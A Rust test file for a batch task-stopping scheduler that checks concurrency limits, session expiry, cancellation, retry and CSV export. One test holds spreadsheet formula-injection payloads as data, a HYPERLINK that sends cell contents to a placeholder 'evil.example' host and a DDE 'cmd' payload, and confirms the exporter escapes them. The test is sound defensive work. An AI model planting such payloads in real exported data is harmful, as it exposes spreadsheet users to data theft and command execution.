//! Native tests of the batch scheduler: scripted stops that take a given
//! number of turns, and what the limit, an expired session, a cancel and
//! "Retry the rest" do.

use std::cell::{Cell, RefCell};
use std::future::Future;
use std::pin::Pin;
use std::task::{Context, Poll};

mod common;
use common::run;

use cbt_panel::batch::{results_csv, run_batch, tally, the_rest, CsvRow, NotSent, Row, Tally};
use cbt_panel::protocol::{decode_error, Outcome};
use cbt_panel::wire::Raw;

/// A future that yields `turns` times, then is ready.
struct Turns(usize);

impl Future for Turns {
    type Output = ();
    fn poll(mut self: Pin<&mut Self>, cx: &mut Context) -> Poll<()> {
        if self.0 == 0 {
            Poll::Ready(())
        } else {
            self.0 -= 1;
            // Yields: ready to be polled again on the next turn.
            cx.waker().wake_by_ref();
            Poll::Pending
        }
    }
}

fn expired() -> Outcome {
    let raw = Raw::parse(r#"{"code":"ID.1001","description":"Session expired"}"#).unwrap();
    Outcome::ApiError(decode_error(&raw).unwrap())
}

fn not_found() -> Outcome {
    let raw = Raw::parse(r#"{"code":"SYS.1006","description":"An operation failed"}"#).unwrap();
    Outcome::ApiError(decode_error(&raw).unwrap())
}

fn stopped() -> Outcome {
    let raw =
        Raw::parse(r#"{"uuid":"5c1e0b8e7d2a4f0c9b3e6a1d2f4c8e71","status":"Stopped"}"#).unwrap();
    Outcome::Stopped(Box::new(
        cbt_panel::protocol::decode_inventory(&raw).unwrap(),
    ))
}

/// A scripted batch: task `i` takes `turns[i]` turns and ends as
/// `ends(i)`; it records the most stops in flight at once and the order
/// they started in.
struct Script {
    turns: Vec<usize>,
    in_flight: Cell<usize>,
    most: Cell<usize>,
    started: RefCell<Vec<usize>>,
}

impl Script {
    fn new(turns: Vec<usize>) -> Script {
        Script {
            turns,
            in_flight: Cell::new(0),
            most: Cell::new(0),
            started: RefCell::default(),
        }
    }

    fn stop(&self, i: usize, end: Outcome) -> impl Future<Output = Outcome> + '_ {
        self.started.borrow_mut().push(i);
        self.in_flight.set(self.in_flight.get() + 1);
        self.most.set(self.most.get().max(self.in_flight.get()));
        async move {
            Turns(self.turns[i]).await;
            self.in_flight.set(self.in_flight.get() - 1);
            end
        }
    }
}

#[test]
fn the_limit_is_never_exceeded_and_results_keep_the_selection_order() {
    let s = Script::new(vec![5, 1, 9, 2, 2, 7, 1, 3, 4, 1]);
    let finished = RefCell::new(Vec::new());
    let rows = run(run_batch(
        10,
        4,
        |i| s.stop(i, if i == 3 { not_found() } else { stopped() }),
        || false,
        |i, r| {
            if r.is_final() {
                finished.borrow_mut().push(i)
            }
        },
    ));
    assert_eq!(s.most.get(), 4, "four at once, never more");
    assert_eq!(
        *s.started.borrow(),
        (0..10).collect::<Vec<_>>(),
        "started in order"
    );
    assert_eq!(rows.len(), 10);
    assert_eq!(rows[3].kind(), Some("api-error"), "one failure");
    assert!(
        rows.iter()
            .enumerate()
            .all(|(i, r)| i == 3 || r.is_stopped()),
        "holds up nothing"
    );
    // They finished in another order than they started; the rows do not.
    assert_ne!(*finished.borrow(), (0..10).collect::<Vec<_>>());
    assert_eq!(
        tally(&rows),
        Tally {
            stopped: 9,
            failed: 1,
            not_sent: 0,
            pending: 0
        }
    );
}

#[test]
fn a_limit_out_of_bounds_is_clamped() {
    let s = Script::new(vec![3; 40]);
    run(run_batch(
        40,
        99,
        |i| s.stop(i, stopped()),
        || false,
        |_, _| {},
    ));
    assert_eq!(s.most.get(), 16);
    let s = Script::new(vec![3; 5]);
    run(run_batch(
        5,
        0,
        |i| s.stop(i, stopped()),
        || false,
        |_, _| {},
    ));
    assert_eq!(s.most.get(), 1);
}

#[test]
fn an_expired_session_sends_nothing_more() {
    // Task 1 answers ID.1001 quickly; 0, 2 and 3 are already in flight and
    // end as they end; 4.. are never sent.
    let s = Script::new(vec![6, 1, 6, 6, 1, 1, 1, 1]);
    let rows = run(run_batch(
        8,
        4,
        |i| s.stop(i, if i == 1 { expired() } else { stopped() }),
        || false,
        |_, _| {},
    ));
    assert_eq!(*s.started.borrow(), vec![0, 1, 2, 3]);
    assert_eq!(rows[1].code(), Some("ID.1001"));
    assert!(rows[0].is_stopped() && rows[2].is_stopped() && rows[3].is_stopped());
    for r in &rows[4..] {
        assert_eq!(*r, Row::NotSent(NotSent::SessionExpired));
    }
}

#[test]
fn cancel_sends_nothing_more_and_marks_the_rest_not_sent() {
    let s = Script::new(vec![2; 9]);
    let cancel = Cell::new(false);
    let rows = run(run_batch(
        9,
        3,
        |i| {
            // Cancel is pressed while the fifth stop starts.
            if i == 4 {
                cancel.set(true);
            }
            s.stop(
                i,
                if cancel.get() {
                    Outcome::Cancelled
                } else {
                    stopped()
                },
            )
        },
        || cancel.get(),
        |_, _| {},
    ));
    assert_eq!(*s.started.borrow(), vec![0, 1, 2, 3, 4]);
    assert_eq!(rows[4].kind(), Some("cancelled"));
    for r in &rows[5..] {
        assert_eq!(*r, Row::NotSent(NotSent::Cancelled));
    }
    assert_eq!(tally(&rows).not_sent, 4);
}

#[test]
fn retry_takes_only_the_tasks_not_stopped() {
    let rows = vec![
        Row::Ended(stopped()),
        Row::Ended(not_found()),
        Row::NotSent(NotSent::Cancelled),
        Row::Ended(Outcome::Cancelled),
        Row::Ended(stopped()),
    ];
    assert_eq!(the_rest(&rows), vec![1, 2, 3]);
}

#[test]
fn results_copy_as_rfc_4180_csv() {
    let csv = results_csv([
        CsvRow {
            uuid: "a",
            name: "plain",
            outcome: "stopped",
            code: "",
            message: "The task was stopped",
        },
        CsvRow {
            uuid: "b",
            name: "with, comma \"and\" quote",
            outcome: "api-error",
            code: "SYS.1006",
            message: "line\nbreak",
        },
    ]);
    assert_eq!(
        csv,
        "uuid,name,outcome,code,message\r\n\
         a,plain,stopped,,The task was stopped\r\n\
         b,\"with, comma \"\"and\"\" quote\",api-error,SYS.1006,\"line\nbreak\"\r\n"
    );
}

#[test]
fn copied_results_never_hold_a_spreadsheet_formula() {
    let row = |name, message| CsvRow {
        uuid: "c",
        name,
        outcome: "api-error",
        code: "",
        message,
    };
    let csv = results_csv([
        row(
            r#"=HYPERLINK("https://evil.example/?leak="&A2,"details")"#,
            "=cmd|' /C calc'!A0",
        ),
        row("+1", "-2"),
        row("@SUM(A1)", "\tx"),
        row("\rx", "a=b stays"),
    ]);
    assert_eq!(
        csv,
        "uuid,name,outcome,code,message\r\n\
         c,\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A2,\"\"details\"\")\",api-error,,'=cmd|' /C calc'!A0\r\n\
         c,'+1,api-error,,'-2\r\n\
         c,'@SUM(A1),api-error,,'\tx\r\n\
         c,\"'\rx\",api-error,,a=b stays\r\n"
    );
    for line in csv.lines().skip(1) {
        for cell in line.split(',') {
            let cell = cell.trim_start_matches('"');
            assert!(
                !cell.starts_with(['=', '+', '-', '@']),
                "a formula went out: {cell}"
            );
        }
    }
}

#[test]
fn retry_takes_the_first_runs_tasks_force_and_tags_and_the_reach_of_now() {
    use cbt_panel::batch::{BatchPlan, BatchTask, Reach};
    let task = |n: &str| BatchTask {
        uuid: format!("{n:0>32}"),
        name: format!("task {n}"),
    };
    let plan = BatchPlan {
        tasks: vec![task("1"), task("2"), task("3")],
        force: true,
        system_tags: vec!["a".into()],
        user_tags: vec!["b".into()],
        limit: 4,
        example: None,
    };
    let before = Reach {
        api_base: "http://old".into(),
        session: "11111111111111111111111111111111".into(),
        deadline_ms: 1_000,
    };
    assert_eq!(plan.request(0, &before).session, before.session);
    let rows = [
        Row::Ended(stopped()),
        Row::Ended(expired()),
        Row::NotSent(NotSent::SessionExpired),
    ];
    let rest = plan.rest(&rows);
    assert_eq!(rest.tasks, vec![task("2"), task("3")]);
    let now = Reach {
        api_base: "http://new".into(),
        session: "22222222222222222222222222222222".into(),
        deadline_ms: 2_000,
    };
    let r = rest.request(1, &now);
    assert_eq!(
        (r.api_base.as_str(), r.session.as_str(), r.uuid.as_str()),
        ("http://new", now.session.as_str(), task("3").uuid.as_str())
    );
    assert!(r.force);
    assert_eq!(
        (r.system_tags, r.user_tags),
        (vec!["a".into()], vec!["b".into()])
    );
    assert!(r.job_id.is_empty(), "a job id is new for each stop sent");
}
